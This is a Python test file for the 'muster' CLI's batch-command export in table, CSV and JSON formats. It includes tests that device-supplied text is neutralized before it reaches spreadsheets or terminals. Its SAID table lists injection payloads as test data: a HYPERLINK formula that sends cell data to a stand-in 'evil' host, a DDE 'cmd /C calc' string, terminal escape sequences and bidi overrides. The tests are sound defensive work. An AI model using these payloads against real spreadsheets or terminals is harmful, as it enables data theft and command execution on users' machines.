"""muster batch commands: its formats, and a dispatcher that goes away in the middle."""
import csv
import io
import json
import os
import subprocess

import pytest
from google.protobuf.json_format import MessageToDict
from harness.daemons import cli, program
from harness.patience import patient
from harness.stack import have
from harness.until import until

pytestmark = pytest.mark.skipif(not have("muster", "muster-dispatcher"), reason="not all is built")
DONE, USAGE, RPC = 0, 2, 3
NASTY = 'a "quoted", \\ tab\tü\nnext, line'


@pytest.fixture(scope="module")
def told(api):
    """(environment, batch, its commands as ListCommands tells them): outcomes with and without results, and none."""
    pb, tenant = api.pb, api.make_tenant()
    client = api.client(tenant)
    api.import_devices(client, [f"c{i:04d}" for i in range(1500)] + ["d:e", "last@x"])
    batch = api.submit(client).batch.id
    ok = pb.CommandResult(payload=b"\0\1", information=pb.DeviceInformation(os_version="17")).SerializeToString()
    bad = pb.CommandResult(code=-7, text=NASTY).SerializeToString()
    for seq, result in ((3, ok), (1024, bad)):
        api.sql("INSERT INTO command_result VALUES (%s, %s, %s) RETURNING 1", batch, seq, result)
    client.devices.DeleteDevice(pb.DeleteDeviceRequest(device_id="c0005"))
    api.watch(client, batch, until=lambda b: b.progress.canceled == 1)
    while not (commands := api.list_commands(client, batch))[5].HasField("updated_at"):
        pass
    return api.cli_env(tenant), batch, commands


def test_json_lines_are_the_json_mapping(told):
    env, batch, commands = told
    out = cli("batch", "commands", batch, "--format", "json", env=env, check=DONE).stdout
    assert [json.loads(line) for line in out.splitlines()] == [MessageToDict(c) for c in commands]


def test_csv_is_read_by_any_reader(told):
    env, batch, commands = told
    done = subprocess.run([program("muster"), "batch", "commands", str(batch), "--format", "csv"], stdout=subprocess.PIPE,
                          env=dict(os.environ, **env), check=True)
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode(), newline="")))
    assert list(rows[0]) == ["command_id", "batch_id", "device_id", "state", "attempts", "updated_at", "code", "text"]
    assert [r["device_id"] for r in rows] == [c.device_id for c in commands]
    assert [r["command_id"] for r in rows] == [c.command_id for c in commands]
    assert (rows[1024]["code"], rows[1024]["text"]) == ("-7", NASTY)
    assert (rows[3]["code"], rows[3]["text"], rows[3]["updated_at"]) == ("", "", "")
    at = commands[5].updated_at
    assert rows[5]["state"] == "CANCELED" and rows[5]["updated_at"] == at.ToDatetime().strftime("%Y-%m-%dT%H:%M:%S") + \
        f".{at.nanos // 1000000:03d}Z"


def test_table_limits_and_filters(told):
    env, batch, commands = told
    whole = cli("batch", "commands", batch, env=env, check=DONE).stdout
    lines = whole.splitlines()
    assert lines[0].split() == ["COMMAND", "BATCH", "DEVICE", "STATE", "ATTEMPTS", "UPDATED", "RESULT"]
    assert lines[1].split() == [commands[0].command_id, str(batch), "c0000", "QUEUED", "0", "-"]
    for n in (1, 7, 1100):
        part = cli("batch", "commands", batch, "--limit", n, env=env, check=DONE).stdout
        assert whole.startswith(part) and part.count(" QUEUED ") + part.count(" CANCELED ") == n
    only = cli("batch", "commands", batch, "--state", "canceled", "--format", "csv", env=env, check=DONE).stdout
    assert len(only.splitlines()) == 2 and ",c0005,CANCELED," in only
    none = cli("batch", "commands", batch, "--state", "failed", "--state", "expired", env=env, check=DONE).stdout
    assert none.splitlines() == lines[:1]
    assert cli("batch", "commands", batch, "--state", "failed", "--format", "json", env=env, check=DONE).stdout == ""
    answers = cli("batch", "commands", batch, "--json", "--limit", 1100, env=env, check=DONE).stdout.splitlines()
    assert sum(len(json.loads(a)["commands"]) for a in answers) == 1100
    assert "is none of table, csv, json" in cli("batch", "commands", batch, "--format", "xml", env=env, check=USAGE).stderr
    assert "BATCH_NOT_FOUND" in cli("batch", "commands", 2**40, env=env, check=RPC).stderr


# What a device may say, what a spreadsheet gets of it, and what a terminal.
SAID = {
    "formula": ('=HYPERLINK("http://evil/?"&A2,"x")', '\'=HYPERLINK("http://evil/?"&A2,"x")', None),
    "plus": ("+1", "'+1", None),
    "minus": ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0", None),
    "at": ("@SUM(A1)", "'@SUM(A1)", None),
    "tab": ("\t=1", "'\t=1", r"\t=1"),
    "return": ("\r=1", "'\r=1", r"\r=1"),
    "wide": ("\uff1d1", "'\uff1d1", None),
    "words": ("it's 1+1 = 2", "it's 1+1 = 2", None),
    "escapes": ("\x1b[2J\x9b1m\x7f", "\x1b[2J\x9b1m\x7f", r"\x1b[2J\u009b1m\x7f"),
    "forged": ("x\n00000000-0000-8000-8000-000000000000 1 boss SUCCEEDED", None,
               r"x\n00000000-0000-8000-8000-000000000000 1 boss SUCCEEDED"),
    "turned": ("\u202e\u2028ü", "\u202e\u2028ü", r"\u202e\u2028ü"),
}


def raw(env, *words):
    """What the command prints, byte by byte."""
    return subprocess.run([program("muster"), *words], stdout=subprocess.PIPE, env=dict(os.environ, **env),
                          check=True).stdout.decode()


@pytest.mark.skipif(not have("muster-worker"), reason="not all is built")
def test_what_a_device_says_is_neither_run_nor_drawn(api):
    pb, tenant = api.pb, api.make_tenant()
    client, env = api.client(tenant), api.cli_env(tenant)

    def answer(delivery):
        return pb.Acknowledgement(command_id=delivery.command_id, outcome=pb.OUTCOME_FAILED, code=1, text=said,
                                  information=pb.DeviceInformation(os_version="1\x1b[1m", model=said, items={"k": said}))

    for name, token in api.register(client, *SAID).items():
        said = SAID[name][0]
        with api.device(name, token, answer=answer).connect(api.workers[0].address):
            one = api.submit(client, target=pb.Target(devices=pb.DeviceIds(ids=[name]))).batch.id
            api.watch(client, one)
        command, = until(lambda b=one: [c for c in api.list_commands(client, b) if c.result.text])
        seen = SAID[name][2] or said
        row, = list(csv.DictReader(io.StringIO(raw(env, "batch", "commands", str(one), "--format", "csv"), newline="")))
        assert (row["device_id"], row["text"]) == (name, SAID[name][1] or said)
        exact = json.loads(raw(env, "batch", "commands", str(one), "--format", "json"))
        assert exact == MessageToDict(command) and exact["result"]["text"] == said
        assert json.loads(raw(env, "command", "get", command.command_id, "--json"))["command"] == exact
        texts = [raw(env, "batch", "commands", str(one)), raw(env, "command", "show", command.command_id),
                 raw(env, "device", "commands", name), raw(env, "device", "get", name)]
        assert texts[0].endswith(f" 1 {seen}\n") and len(texts[0].splitlines()) == 2
        assert f"  text         {seen}\n" in texts[1] and f"  k            {seen}\n" in texts[1]
        for text in texts + [raw(env, "command", "get", command.command_id, "--json")]:
            assert not set(text) & set("\x1b\x7f\x9b\t\r\u202e\u2028")
    text = raw(env, "device", "list")
    assert len(text.splitlines()) == 1 + len(SAID) and text.count(r"1\x1b[1m") == len(SAID)


def test_what_others_say_is_not_drawn(api):
    """Reasons, descriptions, errors."""
    tenant = api.make_tenant()
    api.import_devices(api.client(tenant), ["one"])
    env, words, seen = api.cli_env(tenant), "a\x1b[2J\nb\u202e", r"a\x1b[2J\nb\u202e"
    batch = json.loads(cli("batch", "submit", "--type", "lock", "--all", "--description", words, "--json", env=env,
                           check=DONE).stdout)["batch"]
    assert batch["description"] == words
    assert f"  description  {seen}\n" in raw(env, "batch", "get", batch["id"])
    raw(env, "batch", "pause", batch["id"], "--reason", words)
    assert f": {seen}\n" in raw(env, "batch", "get", batch["id"])
    assert seen in raw(env, "hold", "--reason", words) and seen in raw(env, "holds")
    until(lambda: seen in raw(env, "audit", "list", "--action", "hold"))
    raw(env, "release")
    events = raw(env, "events", "watch", "--from-beginning", "--kind", "batch-paused", "--count", "1")
    assert seen in events and "\x1b" not in events
    assert seen in cli("batch", "get", words, env=env, check=USAGE).stderr
    wrong = cli("batch", "submit", "--type", "lock", "--filter", f"{words} = 1", env=env, check=RPC).stderr
    assert "filter" in wrong and "\x1b" not in wrong


def test_an_export_goes_on_at_a_dispatcher_that_came_back(make_stack):
    """The reader stands still, so that the dispatcher is lost in the middle."""
    stack = make_stack()
    stack.start(workers=0)
    tenant = stack.make_tenant()
    client, ids = stack.client(tenant), [f"lost-{i:06d}" for i in range(60000)]
    stack.import_devices(client, ids)
    batch = stack.submit(client).batch.id
    with subprocess.Popen([program("muster"), "batch", "commands", str(batch), "--format", "csv"], stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, bufsize=0, env=dict(os.environ, **stack.cli_env(tenant))) as run:
        first = run.stdout.readline()
        stack.dispatchers[0].kill()
        stack.restart(stack.dispatchers[0])
        rest, errors = run.communicate(timeout=patient(60))
    assert run.returncode == DONE, errors
    rows = csv.DictReader(io.StringIO((first + rest).decode()))
    assert [r["device_id"] for r in rows] == ids


def test_an_export_that_is_not_read_to_its_end(told):
    """The reader of the pipe goes away: no more is asked for, and the status tells."""
    env, batch, _ = told
    with subprocess.Popen([program("muster"), "batch", "commands", str(batch)], stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, env=dict(os.environ, **env)) as run:
        run.stdout.readline()
        run.stdout.close()
        assert run.wait(patient(30)) == 1
